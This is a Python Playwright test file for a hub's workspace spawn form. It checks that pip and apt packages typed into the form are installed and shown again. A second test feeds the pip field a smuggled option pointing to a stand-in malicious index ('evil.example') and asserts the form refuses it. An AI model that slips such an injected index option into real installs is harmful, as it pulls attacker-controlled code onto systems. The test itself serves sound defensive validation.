"""Packages at creation from the spawn form (headless Debian chromium, Playwright): the three
text fields go through the same options schema as the REST API."""

from __future__ import annotations

from playwright.sync_api import expect
from support.docker_cli import docker, exec_in


def test_packages_typed_in_the_form_are_installed_and_shown_again_next_time(hub, page, log_in):
    user, ws = "browserpkg", "pk1"
    log_in(user)
    page.goto(f"{hub.url}/hub/spawn/{user}/{ws}")
    page.check("#bench-model-test-small")
    page.fill("#bench-storage", "1")
    page.fill("#bench-packages-pip", "tabulate\ntermcolor")
    page.fill("#bench-packages-apt", "jq")
    page.click("#spawn_form [type=submit]")
    page.wait_for_url(f"**/user/{user}/{ws}/lab**", timeout=180_000)

    options = hub.workspaces(user)[ws]["user_options"]
    assert options["packages"] == {"pip": ["tabulate", "termcolor"], "apt": ["jq"], "r": []}
    container = hub.container_name(user, ws)
    assert (
        exec_in(container, "python -c 'import tabulate, termcolor' && jq --version").returncode == 0
    )
    hub.stop_workspace(user, ws)

    # the form of the stopped workspace shows its lists, one name per line
    page.goto(f"{hub.url}/hub/spawn/{user}/{ws}")
    expect(page.locator("#bench-packages-pip")).to_have_value("tabulate\ntermcolor")
    expect(page.locator("#bench-packages-apt")).to_have_value("jq")


def test_a_hostile_package_in_the_form_is_refused_naming_the_field(hub, page, log_in):
    user, ws = "browserpkgbad", "pk2"
    log_in(user)
    page.goto(f"{hub.url}/hub/spawn/{user}/{ws}")
    page.fill("#bench-storage", "1")
    page.fill("#bench-packages-pip", "six --index-url=https://evil.example/simple")
    page.click("#spawn_form [type=submit]")

    error = page.locator(".spawn-error-msg")
    expect(error).to_be_visible()
    expect(error).to_contain_text("packages.pip: '--index-url=https://evil.example/simple'")
    expect(page.locator("#bench-packages-pip")).to_be_visible()  # the form is shown again
    assert docker("ps", "-aq", "--filter", f"name=^{hub.container_name(user, ws)}$") == ""
    assert hub.workspaces(user).get(ws, {}).get("status") != "running"
